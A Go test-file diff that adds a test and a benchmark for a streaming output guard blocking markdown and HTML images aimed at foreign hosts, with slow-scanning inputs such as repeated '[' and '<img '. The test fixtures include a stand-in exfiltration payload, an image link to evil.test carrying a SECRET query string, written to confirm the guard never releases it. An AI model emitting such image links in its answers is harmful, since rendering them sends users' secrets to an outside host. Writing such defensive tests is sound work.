@@ -76,6 +76,49 @@ func TestStreamGuardMatchesWholeText(t *testing.T) {
 	}
 }
 
+// TestStreamGuardHeldWindows streams answers that keep a window of more
+// than windowRetryMin bytes from being released (an unmatched '[', tags
+// without an end, a run without spaces), so that the guard waits for the
+// window to grow before it tries again, and checks that the image to a
+// foreign host is never released and that what is released is what the
+// whole answer gives. (The tags case may differ from the whole answer:
+// a cut inside one long tag releases its first part as text, which holds
+// no URL.)
+func TestStreamGuardHeldWindows(t *testing.T) {
+	o := testSafety()
+	const exfil = "![x](https://evil.test/p.png?q=SECRET)"
+	for _, tc := range []struct {
+		text string
+		same bool
+	}{
+		{"See [note " + strings.Repeat("more words here ", 400) + "] and " + exfil + "\n\nDone.", true},
+		{strings.Repeat("[", 3000) + exfil + " tail", true},
+		{strings.Repeat("abcdefgh", 900) + exfil + " and more text after it.", true},
+		{strings.Repeat("<img ", 800) + `<img src="https://evil.test/?q=SECRET">` + " " + exfil + " end", false},
+	} {
+		whole, err := o.checkText(&Call{}, "", tc.text)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, size := range []byte{0, 15, 62} {
+			cuts := make([]byte, len(tc.text))
+			for i := range cuts {
+				cuts[i] = size
+			}
+			got, err := stream(t, o, tc.text, cuts)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if tc.same && got != whole {
+				t.Errorf("%.30q…, chunks of %d: stream released\n%.200q\nwhole text gives\n%.200q", tc.text, size+1, got, whole)
+			}
+			if strings.Contains(got, "evil.test") {
+				t.Errorf("%.30q…, chunks of %d: released the foreign image", tc.text, size+1)
+			}
+		}
+	}
+}
+
 func TestStreamGuardBoundsMemory(t *testing.T) {
 	o := testSafety()
 	g := o.CheckStream(context.Background(), &Call{}).(*windowGuard)
@@ -161,6 +204,32 @@ func BenchmarkStreamGuard(b *testing.B) {
 		}
 	}
 	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/float64((len(answer)+chunk-1)/chunk), "ns/chunk")
+}
+
+// BenchmarkStreamGuardHostile streams 64 KiB answers that keep the
+// guard's window from being released (an unmatched '[', tags without an
+// end, a run without spaces) in chunks of 16 bytes: each chunk used to
+// rescan the whole window, up to MaxHold, and "<img " repeated took
+// minutes.
+func BenchmarkStreamGuardHostile(b *testing.B) {
+	o := testSafety()
+	for _, u := range []string{"[", "![", "<img ", `<img src="x" `, "<", "a"} {
+		text := strings.Repeat(u, (64<<10)/len(u))
+		b.Run(strings.TrimSpace(u), func(b *testing.B) {
+			b.SetBytes(int64(len(text)))
+			for b.Loop() {
+				g := o.CheckStream(context.Background(), &Call{})
+				for i := 0; i < len(text); i += 16 {
+					if _, err := g.Next(0, text[i:min(i+16, len(text))]); err != nil {
+						b.Fatal(err)
+					}
+				}
+				if _, err := g.End(0); err != nil {
+					b.Fatal(err)
+				}
+			}
+		})
+	}
 }
 
 func BenchmarkOutputChecks(b *testing.B) {
